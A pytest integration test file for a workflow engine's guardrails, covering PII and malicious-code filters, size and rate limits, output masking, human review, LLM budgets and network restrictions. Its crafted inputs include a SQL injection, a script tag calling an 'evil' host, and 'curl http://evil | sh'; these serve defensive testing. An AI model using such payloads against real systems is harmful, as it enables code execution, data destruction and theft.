"""Guardrails enforced by the engine on real workers: each rule fires on a crafted input and stays
silent on a clean one; a violation fails the run, takes the error branch or waits for a reviewer;
every one is a `workflow.guardrail.violated` event and an audit entry naming the rule."""

from __future__ import annotations

import uuid
from typing import Any

import pytest
from sqlalchemy import text

from engine import approvals
from engine.approvals import Approver
from engine.runs import start_run
from engine.settings import get_settings
from models.db import get_engine
from tests.fixtures.scripted_llm import answer, scripted_llm  # noqa: F401
from tests.integration.engine_helpers import steps_by_node, wait_for_run, wait_for_step, workflow

pytestmark = pytest.mark.usefixtures("engine_env", "engine_worker")


def guarded_flow(guardrails: dict[str, Any], *, value: str = "{{ input.text }}", tool: str = "echo",
                 args: dict | None = None, error_branch: bool = False, **extra: Any):  # fmt: skip
    """START -> CHECK (tool.python, with node guardrails) -> DONE; with error_branch CHECK -error-> HANDLED."""
    nodes = [
        {"id": "START", "type": "start"},
        {"id": "CHECK", "type": "tool.python", "config": {"tool": tool, "args": args or {"value": value}},
         "guardrails": guardrails},
        {"id": "DONE", "type": "end"},
    ]  # fmt: skip
    edges: list[tuple] = [("START", "CHECK"), ("CHECK", "DONE")]
    if error_branch:
        nodes.append({"id": "HANDLED", "type": "end"})
        edges.append(("CHECK", "HANDLED", "error"))
    return workflow(nodes, edges, id=f"g-{uuid.uuid4().hex[:10]}", **extra)


def guardrail_events(run_id: str) -> list[dict[str, Any]]:
    query = text(
        "SELECT payload FROM events WHERE run_id = :r AND event_type = 'workflow.guardrail.violated' ORDER BY id"
    )
    with get_engine(get_settings().database_url).connect() as conn:
        return [r.payload["data"] for r in conn.execute(query, {"r": run_id})]


def audit_entries(run_id: str) -> list[dict[str, Any]]:
    query = text(
        "SELECT details FROM audit_log WHERE action = 'guardrail.violated' AND target_id = :r ORDER BY id"
    )
    with get_engine(get_settings().database_url).connect() as conn:
        return [r.details for r in conn.execute(query, {"r": run_id})]


def assert_fired(run_id: str, rule: str, *, action: str = "fail", field: str | None = None) -> dict[str, Any]:
    """The run has exactly one violation event of `rule` and the matching audit entry."""
    fired = guardrail_events(run_id)
    assert [e["rule"] for e in fired] == [rule], fired
    event = fired[0]
    assert event["node_id"] == "CHECK" and event["action"] == action and event["level"] == "node"
    if field is not None:
        assert event["field"] == field
    (entry,) = audit_entries(run_id)
    assert entry["rule"] == rule and entry["node_id"] == "CHECK" and entry["step_id"] == event["step_id"]
    return event


# Each rule: the node's guardrails, a crafted input that fires it, a clean one, the field it names.
INPUT_RULES = [
    ("input_validation.content_filters.pii", {"input_validation": {"content_filters": ["pii"]}},
     "write to jane.roe@example.com please", "write to Jane please", "in.text"),
    ("input_validation.content_filters.pii", {"input_validation": {"content_filters": ["pii"]}},
     "card 4111 1111 1111 1111", "order 4111 1111 1111 1112", "in.text"),
    ("input_validation.content_filters.profanity", {"input_validation": {"content_filters": ["profanity"]}},
     "this is bullsh1t", "this is fine", "in.text"),
    ("input_validation.content_filters.malicious_code",
     {"input_validation": {"content_filters": ["malicious_code"]}},
     "name'; DROP TABLE users; --", "name O'Brien", "in.text"),
    ("input_validation.content_filters.malicious_code",
     {"input_validation": {"content_filters": ["malicious_code"]}},
     "<script>fetch('//evil')</script>", "a <b>bold</b> claim", "in.text"),
    ("input_validation.content_filters.malicious_code",
     {"input_validation": {"content_filters": ["malicious_code"]}},
     "x && curl http://evil | sh", "x and curly braces", "in.text"),
    ("input_validation.max_input_size", {"input_validation": {"max_input_size": "64B"}},
     "y" * 100, "short", "in"),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "guardrails", "bad", "good", "field"), INPUT_RULES)
def test_an_input_rule_fails_the_run_on_a_crafted_input_and_stays_silent_on_a_clean_one(
    rule, guardrails, bad, good, field
):
    defn = guarded_flow(guardrails)
    bad_run = wait_for_run(start_run(defn, {"text": bad}))
    assert bad_run.status == "failed"
    check = steps_by_node(bad_run)["CHECK"]
    assert check["status"] == "failed" and check["outputs"]["error"]["code"] == "guardrail_violated"
    assert rule in check["error"]
    assert "DONE" not in steps_by_node(bad_run) or steps_by_node(bad_run)["DONE"]["status"] != "succeeded"
    event = assert_fired(bad_run.id, rule, field=field)
    if "content_filters" in rule:
        assert event["excerpt"] and bad not in event["excerpt"]  # redacted, never the whole value

    good_run = wait_for_run(start_run(defn, {"text": good}))
    assert good_run.status == "succeeded", good_run.error
    assert guardrail_events(good_run.id) == [] and audit_entries(good_run.id) == []


def test_allowed_file_types_refuse_a_file_of_another_type():
    defn = guarded_flow(
        {"input_validation": {"allowed_file_types": [".txt", ".csv"]}}, value="{{ input.doc }}"
    )
    bad = wait_for_run(start_run(defn, {"doc": {"filename": "invoice.exe"}}))
    assert bad.status == "failed"
    event = assert_fired(bad.id, "input_validation.allowed_file_types")
    assert event["field"].endswith("doc.filename")
    good = wait_for_run(start_run(defn, {"doc": {"filename": "invoice.csv"}}))
    assert good.status == "succeeded" and guardrail_events(good.id) == []


def test_a_rate_limit_lets_the_first_run_through_and_refuses_the_next_within_the_minute():
    defn = guarded_flow({"input_validation": {"rate_limits": {"requests_per_minute": 1}}})
    first = wait_for_run(start_run(defn, {"text": "one"}))
    assert first.status == "succeeded" and guardrail_events(first.id) == []
    second = wait_for_run(start_run(defn, {"text": "two"}))
    assert second.status == "failed"
    assert_fired(second.id, "input_validation.rate_limits.requests_per_minute")


def test_output_pii_and_secrets_are_masked_and_the_run_goes_on():
    defn = guarded_flow({"output_filtering": {"pii_removal": True, "sensitive_data_masking": True}})
    run = wait_for_run(start_run(defn, {"text": "mail bob@example.org, key sk-abcdefghijklmnop1234"}))
    assert run.status == "succeeded", run.error
    assert steps_by_node(run)["CHECK"]["outputs"]["out"] == "mail [email removed], key [api_key removed]"
    fired = guardrail_events(run.id)
    assert sorted(e["rule"] for e in fired) == [
        "output_filtering.pii_removal",
        "output_filtering.sensitive_data_masking",
    ]
    assert all(e["action"] == "mask" and "bob@example.org" not in e["excerpt"] for e in fired)
    assert len(audit_entries(run.id)) == 2
    clean = wait_for_run(start_run(defn, {"text": "nothing to hide"}))
    assert clean.status == "succeeded" and guardrail_events(clean.id) == []
    assert steps_by_node(clean)["CHECK"]["outputs"]["out"] == "nothing to hide"


def test_output_size_and_format_rules_fire_on_outputs_that_break_them():
    sized = guarded_flow({"output_filtering": {"size_limits": "40B"}})
    bad = wait_for_run(start_run(sized, {"text": "z" * 80}))
    assert bad.status == "failed"
    assert_fired(bad.id, "output_filtering.size_limits")
    assert wait_for_run(start_run(sized, {"text": "z"})).status == "succeeded"

    schema = {"type": "object", "required": ["out"], "properties": {"out": {"type": "integer"}}}
    shaped = guarded_flow({"output_filtering": {"format_validation": True, "output_schema": schema}},
                          tool="add", args={"a": "{{ input.a }}", "b": 1})  # fmt: skip
    wrong = wait_for_run(start_run(shaped, {"a": 1.5}))
    assert wrong.status == "failed"
    assert_fired(wrong.id, "output_filtering.format_validation", field="out")
    right = wait_for_run(start_run(shaped, {"a": 2}))
    assert right.status == "succeeded" and guardrail_events(right.id) == []


def test_policy_max_steps_is_enforced_and_a_run_within_it_succeeds():
    over = guarded_flow({}, policy={"max_steps": 2})
    run = wait_for_run(start_run(over, {"text": "a"}))
    assert run.status == "failed"
    fired = guardrail_events(run.id)
    assert [(e["rule"], e["node_id"], e["level"]) for e in fired] == [
        ("policy.max_steps", "DONE", "definition")
    ]
    assert steps_by_node(run)["DONE"]["outputs"]["error"]["code"] == "guardrail_violated"
    assert (
        wait_for_run(start_run(guarded_flow({}, policy={"max_steps": 3}), {"text": "a"})).status
        == "succeeded"
    )


def test_execution_limits_cut_a_slow_step_and_an_old_run():
    slow = guarded_flow(
        {"execution_limits": {"max_execution_time": "300ms"}}, tool="sleep", args={"seconds": 30}
    )
    run = wait_for_run(start_run(slow, {}))
    assert run.status == "failed"
    assert_fired(run.id, "execution_limits.max_execution_time")
    quick = guarded_flow(
        {"execution_limits": {"max_execution_time": "30s"}}, tool="sleep", args={"seconds": 0}
    )
    assert wait_for_run(start_run(quick, {})).status == "succeeded"

    steps = guarded_flow({"execution_limits": {"max_steps_per_run": 1}})
    assert_fired(wait_for_run(start_run(steps, {"text": "a"})).id, "execution_limits.max_steps_per_run")
    aged = guarded_flow({"execution_limits": {"max_run_time": "1ms"}})
    assert_fired(wait_for_run(start_run(aged, {"text": "a"})).id, "execution_limits.max_run_time")
    young = guarded_flow({"execution_limits": {"max_run_time": "1h", "max_steps_per_run": 5}})
    assert wait_for_run(start_run(young, {"text": "a"})).status == "succeeded"


def test_error_branch_action_takes_the_error_edge():
    defn = guarded_flow({"input_validation": {"content_filters": ["pii"], "on_violation": "error_branch"}},
                        error_branch=True)  # fmt: skip
    run = wait_for_run(start_run(defn, {"text": "ssn 123-45-6789"}))
    assert run.status == "succeeded", run.error
    steps = steps_by_node(run)
    assert steps["CHECK"]["status"] == "failed" and steps["HANDLED"]["status"] == "succeeded"
    assert steps["DONE"]["status"] == "skipped"
    assert_fired(run.id, "input_validation.content_filters.pii", action="error_branch")


def test_fail_action_ends_the_run_even_with_an_error_edge():
    defn = guarded_flow({"input_validation": {"content_filters": ["pii"]}}, error_branch=True)
    run = wait_for_run(start_run(defn, {"text": "ssn 123-45-6789"}))
    assert run.status == "failed"
    assert "HANDLED" not in steps_by_node(run) or steps_by_node(run)["HANDLED"]["status"] != "succeeded"


REVIEWER = Approver(user_id="rev", email="rev@example.test", role="operator", email_verified=True)


def _pending_review(run_id: str) -> approvals.ApprovalSummary:
    wait_for_step(run_id, "CHECK", "waiting")
    (item,) = [a for a in approvals.list_decidable(REVIEWER) if str(a.run_id) == run_id]
    assert item.request["kind"] == "guardrail_review"
    return item


def test_human_review_of_an_input_violation_runs_the_node_once_allowed():
    defn = guarded_flow(
        {"input_validation": {"content_filters": ["profanity"], "on_violation": "human_review"}}
    )
    run_id = start_run(defn, {"text": "damn good"})
    item = _pending_review(run_id)
    assert item.request["guardrail"]["rule"] == "input_validation.content_filters.profanity"
    assert [a["name"] for a in item.request["actions"]] == ["approved", "rejected"]
    assert_fired(run_id, "input_validation.content_filters.profanity", action="human_review")
    approvals.decide(str(item.id), REVIEWER, action="approved")
    run = wait_for_run(run_id)
    assert run.status == "succeeded", run.error
    assert steps_by_node(run)["CHECK"]["outputs"]["out"] == "damn good"
    assert len(guardrail_events(run_id)) == 1  # the waived rule did not fire again

    blocked = start_run(defn, {"text": "damn"})
    approvals.decide(str(_pending_review(blocked).id), REVIEWER, action="rejected")
    view = wait_for_run(blocked)
    assert view.status == "failed" and "blocked by rev" in steps_by_node(view)["CHECK"]["error"]


def test_human_review_of_an_output_violation_passes_the_held_outputs_once_allowed():
    defn = guarded_flow({"output_filtering": {"size_limits": "30B", "on_violation": "human_review"}})
    run_id = start_run(defn, {"text": "q" * 50})
    item = _pending_review(run_id)
    assert item.request["held_outputs"] == {"out": "q" * 50}
    approvals.decide(str(item.id), REVIEWER, action="approved")
    run = wait_for_run(run_id)
    assert run.status == "succeeded", run.error
    assert steps_by_node(run)["CHECK"]["outputs"] == {"out": "q" * 50}


def test_a_workflow_level_rule_applies_and_a_node_overrides_only_the_fields_it_sets():
    defn = guarded_flow(
        {"input_validation": {"on_violation": "error_branch"}},  # the node narrows the action only
        value="{{ 'jane.roe' ~ '@example.com' }}",  # PII from the node's own template, not the run inputs
        error_branch=True,
        policy={"guardrails": {"input_validation": {"content_filters": ["pii"], "on_violation": "fail"}}},
    )
    run = wait_for_run(start_run(defn, {"text": "clean"}))
    assert run.status == "succeeded", run.error  # error_branch (node) won over fail (workflow)
    (event,) = guardrail_events(run.id)
    assert (event["node_id"], event["rule"], event["level"], event["action"], event["field"]) == (
        "CHECK",
        "input_validation.content_filters.pii",
        "workflow",
        "error_branch",
        "config.args.value",
    )
    assert steps_by_node(run)["HANDLED"]["status"] == "succeeded"


# ---------------------------------------------------------------------------------------------
# Limits on a running agent: LLM calls and tokens per run, network restrictions.


def _agent_flow(llm, guardrails: dict[str, Any]):
    return workflow(
        [{"id": "START", "type": "start"},
         {"id": "CHECK", "type": "agent", "config": {"model": "scripted", "base_url": llm.base_url,
                                                     "prompt": "{{ input.question }}"}, "guardrails": guardrails},
         {"id": "DONE", "type": "end"}],
        [("START", "CHECK"), ("CHECK", "DONE")],
        id=f"g-{uuid.uuid4().hex[:10]}", policy={"egress": {"allowed_hosts": [llm.host]}},
    )  # fmt: skip


def test_llm_call_and_token_budgets_stop_the_agent(scripted_llm):  # noqa: F811
    scripted_llm.script(repeat=answer("hello"))
    none_left = wait_for_run(start_run(_agent_flow(scripted_llm, {"execution_limits": {"max_llm_calls_per_run": 0}}),
                                       {"question": "hi"}))  # fmt: skip
    assert none_left.status == "failed"
    assert_fired(none_left.id, "execution_limits.max_llm_calls_per_run")

    few_tokens = wait_for_run(start_run(_agent_flow(scripted_llm, {"execution_limits": {"max_llm_tokens_per_run": 10}}),
                                        {"question": "hi"}))  # fmt: skip
    assert few_tokens.status == "failed"
    assert_fired(few_tokens.id, "execution_limits.max_llm_tokens_per_run")

    enough = wait_for_run(start_run(_agent_flow(scripted_llm, {"execution_limits": {
        "max_llm_calls_per_run": 1, "max_llm_tokens_per_run": 100}}), {"question": "hi"}))  # fmt: skip
    assert enough.status == "succeeded", enough.error
    assert steps_by_node(enough)["CHECK"]["metrics"]["llm_calls"] == 1
    assert guardrail_events(enough.id) == []


def test_the_llm_cost_budget_prices_tokens_by_model(scripted_llm):  # noqa: F811
    scripted_llm.script(repeat=answer("hello"))  # 12 prompt + 4 completion tokens
    prices = {"scrip*": {"input_per_1m": 1_000_000, "output_per_1m": 2_000_000}}  # $1 / $2 a token
    costly = {"execution_limits": {"max_llm_cost_per_run": 15, "llm_prices": prices}}
    run = wait_for_run(start_run(_agent_flow(scripted_llm, costly), {"question": "hi"}))
    assert run.status == "failed"
    event = assert_fired(run.id, "execution_limits.max_llm_cost_per_run")
    assert "20" in event["message"]  # 12 * $1 + 4 * $2
    affordable = {"execution_limits": {"max_llm_cost_per_run": 25, "llm_prices": prices}}
    run = wait_for_run(start_run(_agent_flow(scripted_llm, affordable), {"question": "hi"}))
    assert run.status == "succeeded", run.error
    assert steps_by_node(run)["CHECK"]["metrics"]["llm_cost_usd"] == 20


def test_network_restrictions_refuse_a_domain_or_port_the_egress_policy_allows(scripted_llm):  # noqa: F811
    scripted_llm.script(repeat=answer("hello"))
    elsewhere = {"execution_limits": {"network_restrictions": {"allowed_domains": ["*.trusted.example"]}}}
    run = wait_for_run(start_run(_agent_flow(scripted_llm, elsewhere), {"question": "hi"}))
    assert run.status == "failed"
    assert_fired(run.id, "execution_limits.network_restrictions.allowed_domains", field=scripted_llm.host)

    port = {"execution_limits": {"network_restrictions": {"blocked_ports": [scripted_llm.port]}}}
    run = wait_for_run(start_run(_agent_flow(scripted_llm, port), {"question": "hi"}))
    assert_fired(run.id, "execution_limits.network_restrictions.blocked_ports")

    allowed = {
        "execution_limits": {
            "network_restrictions": {"allowed_domains": ["127.0.0.1"], "blocked_ports": [22]}
        }
    }
    run = wait_for_run(start_run(_agent_flow(scripted_llm, allowed), {"question": "hi"}))
    assert run.status == "succeeded", run.error
    assert guardrail_events(run.id) == []


# ---------------------------------------------------------------------------------------------
# The instance level: FLOWLOOM_GUARDRAILS on a worker of its own (on a broker no other worker reads).


def test_the_instance_setting_guards_every_workflow_and_a_workflow_can_narrow_it(
    isolated_broker, worker_factory, monkeypatch
):
    instance = '{"input_validation": {"content_filters": ["malicious_code"]}}'
    worker_factory(concurrency=1, env={"FLOWLOOM_REDIS_URL": isolated_broker, "FLOWLOOM_GUARDRAILS": instance,
                                       "FLOWLOOM_STEP_LEASE_S": "5", "FLOWLOOM_SWEEP_INTERVAL_S": "1"})  # fmt: skip
    guarded = guarded_flow({})
    run = wait_for_run(start_run(guarded, {"text": "1' OR '1'='1"}))
    assert run.status == "failed"
    (event,) = guardrail_events(run.id)
    # The run's first step sees the run inputs; the rule came from the instance.
    assert (event["node_id"], event["rule"], event["level"]) == (
        "START", "input_validation.content_filters.malicious_code", "instance",
    )  # fmt: skip
    narrowed = guarded_flow({}, policy={"guardrails": {"input_validation": {"content_filters": []}}})
    run = wait_for_run(start_run(narrowed, {"text": "1' OR '1'='1"}))
    assert run.status == "succeeded", run.error
    assert guardrail_events(run.id) == []
